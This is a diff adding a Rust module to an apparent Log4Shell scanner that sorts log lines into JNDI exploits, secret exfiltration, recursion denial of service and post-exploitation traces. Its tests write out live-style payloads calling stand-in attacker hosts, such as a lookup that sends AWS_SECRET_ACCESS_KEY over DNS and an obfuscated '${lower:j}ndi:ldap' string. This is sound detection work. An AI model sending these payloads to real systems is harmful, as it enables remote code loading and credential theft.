@@ -1,0 +1,490 @@
+//! Decides what an evaluated line means: a `jndi` exploit (and where it calls home), victim data
+//! sent out, a recursion denial of service, or traces that an exploit already ran.
+
+use serde::{Serialize, Serializer};
+
+use super::lookup::{self, Exfiltration, Outcome};
+use super::substitutor::{self, Limits};
+
+/// What kind of attack a hit is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum HitClass {
+    /// A `${jndi:...}` lookup: remote code loading (CVE-2021-44228).
+    Jndi,
+    /// A lookup reading victim state (`${env:...}`, `${sys:...}`, ...) into a network name.
+    Exfiltration,
+    /// A lookup that recurses forever or blows a limit (CVE-2021-45105).
+    RecursionDos,
+    /// Log lines a JVM writes after it followed a JNDI reference.
+    PostExploitation,
+}
+
+impl HitClass {
+    /// Every class, in report order.
+    pub const ALL: [HitClass; 4] = [
+        HitClass::Jndi,
+        HitClass::Exfiltration,
+        HitClass::RecursionDos,
+        HitClass::PostExploitation,
+    ];
+
+    /// Stable snake_case name, as in JSON output.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            HitClass::Jndi => "jndi",
+            HitClass::Exfiltration => "exfiltration",
+            HitClass::RecursionDos => "recursion_dos",
+            HitClass::PostExploitation => "post_exploitation",
+        }
+    }
+}
+
+/// The naming protocol a `jndi` lookup asks the victim to use.
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub enum JndiProtocol {
+    /// `ldap://`
+    Ldap,
+    /// `ldaps://`
+    Ldaps,
+    /// `rmi://`
+    Rmi,
+    /// `dns://`
+    Dns,
+    /// `iiop://`
+    Iiop,
+    /// `corba:` / `corbaname:`
+    Corba,
+    /// `nds://`
+    Nds,
+    /// `nis://`
+    Nis,
+    /// `http://`
+    Http,
+    /// `https://`
+    Https,
+    /// Any other scheme, lower-cased.
+    Other(String),
+}
+
+impl JndiProtocol {
+    /// Maps a URL scheme (any case) to a protocol.
+    pub fn from_scheme(scheme: &str) -> Self {
+        match scheme.to_lowercase().as_str() {
+            "ldap" => Self::Ldap,
+            "ldaps" => Self::Ldaps,
+            "rmi" => Self::Rmi,
+            "dns" => Self::Dns,
+            "iiop" | "iiopname" => Self::Iiop,
+            "corba" | "corbaname" => Self::Corba,
+            "nds" => Self::Nds,
+            "nis" => Self::Nis,
+            "http" => Self::Http,
+            "https" => Self::Https,
+            other => Self::Other(other.to_string()),
+        }
+    }
+
+    /// The canonical lower-case scheme name.
+    pub fn as_str(&self) -> &str {
+        match self {
+            Self::Ldap => "ldap",
+            Self::Ldaps => "ldaps",
+            Self::Rmi => "rmi",
+            Self::Dns => "dns",
+            Self::Iiop => "iiop",
+            Self::Corba => "corba",
+            Self::Nds => "nds",
+            Self::Nis => "nis",
+            Self::Http => "http",
+            Self::Https => "https",
+            Self::Other(other) => other,
+        }
+    }
+}
+
+impl std::fmt::Display for JndiProtocol {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+impl Serialize for JndiProtocol {
+    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        serializer.serialize_str(self.as_str())
+    }
+}
+
+/// Where a `jndi` name points, parsed as `scheme://host[:port]/path`.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+pub struct JndiTarget {
+    /// The scheme, when the name has one.
+    pub protocol: Option<JndiProtocol>,
+    /// The host (lower-cased unless it still holds a lookup), e.g. `evil.example`.
+    pub host: Option<String>,
+    /// The port, when given.
+    pub port: Option<u16>,
+    /// What follows the first `/` after the host, e.g. `Exploit` or `a/b`.
+    pub path: Option<String>,
+}
+
+/// Byte index of the first of `targets` in `s` that is not inside a `${...}`.
+fn find_outside_lookups(s: &str, targets: &[u8]) -> Option<usize> {
+    let bytes = s.as_bytes();
+    let mut depth = 0usize;
+    let mut i = 0;
+    while i < bytes.len() {
+        match bytes[i] {
+            b'$' if bytes.get(i + 1) == Some(&b'{') => {
+                depth += 1;
+                i += 1;
+            }
+            b'}' if depth > 0 => depth -= 1,
+            b if depth == 0 && targets.contains(&b) => return Some(i),
+            _ => {}
+        }
+        i += 1;
+    }
+    None
+}
+
+fn rfind_outside_lookups(s: &str, target: u8) -> Option<usize> {
+    let mut found = None;
+    let mut from = 0;
+    while let Some(at) = find_outside_lookups(&s[from..], &[target]) {
+        found = Some(from + at);
+        from += at + 1;
+    }
+    found
+}
+
+impl JndiTarget {
+    /// Parses a `jndi` name such as `ldap://evil.example:1389/a` or `rmi://[::1]/x`.
+    pub fn parse(name: &str) -> Self {
+        let name = name.trim();
+        let Some(colon) = find_outside_lookups(name, b":") else {
+            return Self {
+                path: non_empty(name),
+                ..Self::default()
+            };
+        };
+        let scheme = &name[..colon];
+        let protocol = (!scheme.is_empty()).then(|| JndiProtocol::from_scheme(scheme));
+        let rest = name[colon + 1..].trim_start_matches('/');
+        let authority_end = find_outside_lookups(rest, b"/?#").unwrap_or(rest.len());
+        let mut authority = &rest[..authority_end];
+        let path = rest.get(authority_end + 1..).and_then(non_empty);
+        if let Some(at) = rfind_outside_lookups(authority, b'@') {
+            authority = &authority[at + 1..];
+        }
+        let (host, port) = split_port(authority);
+        let host = non_empty(host).map(|h| {
+            if h.contains("${") {
+                h
+            } else {
+                h.to_lowercase()
+            }
+        });
+        Self {
+            protocol,
+            host,
+            port,
+            path,
+        }
+    }
+}
+
+fn split_port(authority: &str) -> (&str, Option<u16>) {
+    if let Some(inner) = authority.strip_prefix('[')
+        && let Some(end) = inner.find(']')
+    {
+        let port = inner[end + 1..]
+            .strip_prefix(':')
+            .and_then(|p| p.parse().ok());
+        return (&inner[..end], port);
+    }
+    match rfind_outside_lookups(authority, b':') {
+        Some(at) => match authority[at + 1..].parse::<u16>() {
+            Ok(port) => (&authority[..at], Some(port)),
+            Err(_) => (authority, None),
+        },
+        None => (authority, None),
+    }
+}
+
+fn non_empty(s: &str) -> Option<String> {
+    (!s.is_empty()).then(|| s.to_string())
+}
+
+/// One attack found in a line, before the line's position and source are attached.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Finding {
+    pub class: HitClass,
+    pub payload: String,
+    pub target: JndiTarget,
+    pub exfiltration: Vec<Exfiltration>,
+    pub detail: Option<String>,
+}
+
+impl Finding {
+    fn new(class: HitClass, payload: String) -> Self {
+        Self {
+            class,
+            payload,
+            target: JndiTarget::default(),
+            exfiltration: Vec::new(),
+            detail: None,
+        }
+    }
+}
+
+const SNIPPET_CHARS: usize = 240;
+
+fn snippet(s: &str) -> String {
+    s.chars().take(SNIPPET_CHARS).collect()
+}
+
+/// Number of `${` left open at the end of `s`.
+fn unclosed(s: &str) -> usize {
+    let bytes = s.as_bytes();
+    let (mut open, mut i) = (0usize, 0);
+    while i < bytes.len() {
+        if bytes[i] == b'$' && bytes.get(i + 1) == Some(&b'{') {
+            open += 1;
+            i += 1;
+        } else if bytes[i] == b'}' {
+            open = open.saturating_sub(1);
+        }
+        i += 1;
+    }
+    open
+}
+
+/// Evaluates decoded text and classifies what the evaluation did; `at_end` says the text ends
+/// where the line ends, so a lookup left open there was cut by the logger, not by a window.
+pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool) -> Vec<Finding> {
+    let mut evaluation = substitutor::evaluate(decoded, limits);
+    let open = if at_end { unclosed(decoded) } else { 0 };
+    if evaluation.jndi.is_empty() && evaluation.abort.is_none() && open > 0 {
+        // Log lines get truncated; close what was cut so the lookup can still be judged.
+        let closed = format!("{decoded}{}", "}".repeat(open.min(limits.max_depth)));
+        let retry = substitutor::evaluate(&closed, limits);
+        if !retry.jndi.is_empty() {
+            evaluation = retry;
+        }
+    }
+    let mut findings = Vec::new();
+    for call in &evaluation.jndi {
+        let mut finding = Finding::new(HitClass::Jndi, format!("${{jndi:{}}}", call.name));
+        finding.target = JndiTarget::parse(&call.name);
+        finding.exfiltration = call.exfiltration.clone();
+        findings.push(finding);
+    }
+    if findings.is_empty() {
+        // Escaped (`$${jndi:`) or otherwise inert lookups still show intent.
+        let text = if evaluation.abort.is_some() {
+            decoded
+        } else {
+            &evaluation.output
+        };
+        if let Some(name) = literal_jndi_name(text, at_end) {
+            let mut finding = Finding::new(HitClass::Jndi, format!("${{jndi:{name}}}"));
+            finding.target = JndiTarget::parse(&name);
+            finding.detail = Some("jndi lookup that log4j would not evaluate".to_string());
+            findings.push(finding);
+        }
+    }
+    if let Some(abort) = &evaluation.abort {
+        let start = decoded.find("${").unwrap_or(0);
+        let mut finding = Finding::new(HitClass::RecursionDos, snippet(&decoded[start..]));
+        finding.detail = Some(abort.to_string());
+        findings.push(finding);
+    } else {
+        for (leak, context) in exfiltration_in_network_context(&evaluation.output, limits) {
+            let mut finding = Finding::new(HitClass::Exfiltration, context);
+            finding.exfiltration.push(leak);
+            findings.push(finding);
+        }
+    }
+    findings
+}
+
+/// The name after a literal `${jndi:` (any case), up to its `}` or the end of the token; a name
+/// running to the end of `text` only counts when that is the end of the line.
+fn literal_jndi_name(text: &str, at_end: bool) -> Option<String> {
+    let lower = text.to_ascii_lowercase();
+    let at = lower.find("${jndi:")? + "${jndi:".len();
+    let rest = &text[at..];
+    let end = rest
+        .find(|c: char| c == '}' || c.is_whitespace() || c == '"' || c == '\'')
+        .unwrap_or(rest.len());
+    if end == rest.len() && !at_end {
+        return None;
+    }
+    Some(rest[..end].to_string())
+}
+
+/// Unresolved exfiltrating lookups at top level of `output` that sit where a host name or URL
+/// is built, e.g. `${env:USER}.oast.example` or `http://${sys:user.name}`.
+fn exfiltration_in_network_context(output: &str, limits: &Limits) -> Vec<(Exfiltration, String)> {
+    let bytes = output.as_bytes();
+    let mut found = Vec::new();
+    let mut pos = 0;
+    while let Some(offset) = memchr::memmem::find(&bytes[pos..], b"${") {
+        let start = pos + offset;
+        let Some(len) = find_outside_lookups(&output[start + 2..], b"}") else {
+            break;
+        };
+        let end = start + 2 + len;
+        let name = substitutor::substitute_name(&output[start + 2..end], limits);
+        pos = end + 1;
+        let Outcome::Unresolved(Some(leak)) = lookup::evaluate(&name) else {
+            continue;
+        };
+        let before = &output[..start];
+        let after = &output[end + 1..];
+        if before.ends_with("://") || before.ends_with('@') || followed_by_domain(after) {
+            let from = before.rfind(char::is_whitespace).map_or(0, |w| w + 1);
+            let to = after
+                .find(char::is_whitespace)
+                .map_or(output.len(), |w| end + 1 + w);
+            found.push((leak, snippet(&output[from..to])));
+        }
+    }
+    found
+}
+
+/// True for `.label.tld...`: a lookup result is being used as a DNS label.
+fn followed_by_domain(after: &str) -> bool {
+    let Some(rest) = after.strip_prefix('.') else {
+        return false;
+    };
+    let run: &str = {
+        let end = rest
+            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '.'))
+            .unwrap_or(rest.len());
+        rest[..end].trim_end_matches('.')
+    };
+    match run.rsplit_once('.') {
+        Some((_, tld)) => tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()),
+        None => false,
+    }
+}
+
+/// What a JVM logs after it followed a JNDI reference, with the host when the line names it.
+const TRACES: &[&str] = &[
+    "Error looking up JNDI resource",
+    "com.sun.jndi.",
+    "Reference Class Name",
+];
+
+/// Finds a post-exploitation trace in a raw line.
+pub(crate) fn post_exploitation(line: &str) -> Option<Finding> {
+    let (at, trace) = TRACES
+        .iter()
+        .find_map(|t| line.find(t).map(|at| (at, *t)))?;
+    let mut finding = Finding::new(HitClass::PostExploitation, snippet(&line[at..]));
+    finding.detail = Some(trace.to_string());
+    let after = &line[at + trace.len()..];
+    if let Some(open) = after.find('[')
+        && let Some(close) = after[open..].find(']')
+    {
+        finding.target = JndiTarget::parse(&after[open + 1..open + close]);
+    }
+    Some(finding)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn analyze_one(s: &str) -> Vec<Finding> {
+        analyze(s, &Limits::default(), true)
+    }
+
+    #[test]
+    fn parses_jndi_targets() {
+        let t = JndiTarget::parse("ldap://evil.example:1389/a");
+        assert_eq!(t.protocol, Some(JndiProtocol::Ldap));
+        assert_eq!(
+            (t.host.as_deref(), t.port, t.path.as_deref()),
+            (Some("evil.example"), Some(1389), Some("a"))
+        );
+        let t = JndiTarget::parse("RMI://[::1]:1099/x/y");
+        assert_eq!(
+            (t.protocol.unwrap().as_str(), t.host.as_deref(), t.port),
+            ("rmi", Some("::1"), Some(1099))
+        );
+        let t = JndiTarget::parse("dns://${env:A:B}.x.example");
+        assert_eq!(t.host.as_deref(), Some("${env:A:B}.x.example"));
+        assert_eq!(t.port, None);
+        let t = JndiTarget::parse("corbaname:iiop:1.2@h");
+        assert_eq!(t.protocol, Some(JndiProtocol::Corba));
+        assert_eq!(JndiTarget::parse("x").protocol, None);
+    }
+
+    #[test]
+    fn jndi_and_exfiltration_findings() {
+        let f = analyze_one("${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}");
+        assert_eq!(f.len(), 1);
+        assert_eq!(f[0].class, HitClass::Jndi);
+        assert_eq!(f[0].target.protocol, Some(JndiProtocol::Dns));
+        assert_eq!(f[0].exfiltration[0].key, "AWS_SECRET_ACCESS_KEY");
+    }
+
+    #[test]
+    fn standalone_exfiltration_only_in_network_context() {
+        let f = analyze_one("ua=${env:USER}.oast.example");
+        assert_eq!(f[0].class, HitClass::Exfiltration);
+        assert_eq!(f[0].payload, "ua=${env:USER}.oast.example");
+        assert!(analyze_one("http://${sys:user.name}")[0].class == HitClass::Exfiltration);
+        assert!(analyze_one("home is ${env:HOME}/bin and ${sys:user.home}.log").is_empty());
+        assert!(
+            analyze_one("${env:X:-a}.oast.example").is_empty(),
+            "a default reads nothing"
+        );
+    }
+
+    #[test]
+    fn recursion_and_truncation() {
+        let f = analyze_one("${${::-${::-$${::-j}}}}");
+        assert_eq!(f[0].class, HitClass::RecursionDos);
+        assert!(f[0].detail.as_deref().unwrap().contains("45105"));
+        let f = analyze_one("GET /?x=${${lower:j}ndi:ldap://cut.example/a");
+        assert_eq!(f[0].target.host.as_deref(), Some("cut.example"));
+        let f = analyze_one("$${jndi:ldap://esc.example/a}");
+        assert_eq!(f[0].class, HitClass::Jndi);
+    }
+
+    #[test]
+    fn benign_templates_are_not_findings() {
+        for s in [
+            "${server.port}",
+            "${HOME}",
+            "${project.version}",
+            "${REMOVED_DEVICES}",
+            "$5.99",
+            "${USER:-root}",
+        ] {
+            assert!(analyze_one(s).is_empty(), "{s}");
+        }
+    }
+
+    #[test]
+    fn post_exploitation_traces() {
+        let f =
+            post_exploitation("WARN Error looking up JNDI resource [ldap://1.2.3.4:1389/Exploit].")
+                .unwrap();
+        assert_eq!(f.class, HitClass::PostExploitation);
+        assert_eq!(
+            (f.target.host.as_deref(), f.target.port),
+            (Some("1.2.3.4"), Some(1389))
+        );
+        assert!(
+            post_exploitation("\tat com.sun.jndi.ldap.LdapCtx.c_lookup(LdapCtx.java:1085)")
+                .is_some()
+        );
+        assert!(post_exploitation("Reference Class Name: foo").is_some());
+        assert!(post_exploitation("looked up jdbc/app via JNDI").is_none());
+    }
+}
